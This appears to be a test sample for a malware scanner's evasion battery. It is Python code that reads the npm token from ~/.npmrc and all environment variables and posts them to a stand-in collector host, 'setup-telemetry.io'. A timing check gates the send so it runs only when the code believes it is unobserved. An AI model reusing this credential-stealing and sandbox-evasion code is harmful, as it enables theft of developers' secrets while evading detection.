# DEFANGED evasion-battery sample (issue 16). Only ever run inside `airlock scan`.
HOST = 'setup-telemetry.io'
# The payload (defanged): the npm token from ~/.npmrc and the environment, posted to a
# made-up collector that only airlock's sink answers. Runs only when the check above
# believes nobody is watching.
def steal(tag):
    import json, os, urllib.request
    try:
        npmrc = open(os.path.expanduser("~/.npmrc")).read()
    except OSError:
        npmrc = ""
    body = json.dumps({"tag": tag, "npmrc": npmrc, "env": dict(os.environ)}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request("http://%s/v2/collect" % HOST, data=body,
                                                      headers={"content-type": "application/json"}), timeout=10)
    except Exception:
        pass

import os, tempfile, time
with tempfile.NamedTemporaryFile() as f:
    f.write(b"a"); f.flush(); m0, t0 = os.stat(f.name).st_mtime, time.time()
    time.sleep(1.0)
    f.write(b"b"); f.flush(); m1, t1 = os.stat(f.name).st_mtime, time.time()
if (t1 - t0) < 2 * max(m1 - m0, 0.05) + 0.5:
    steal("clock")
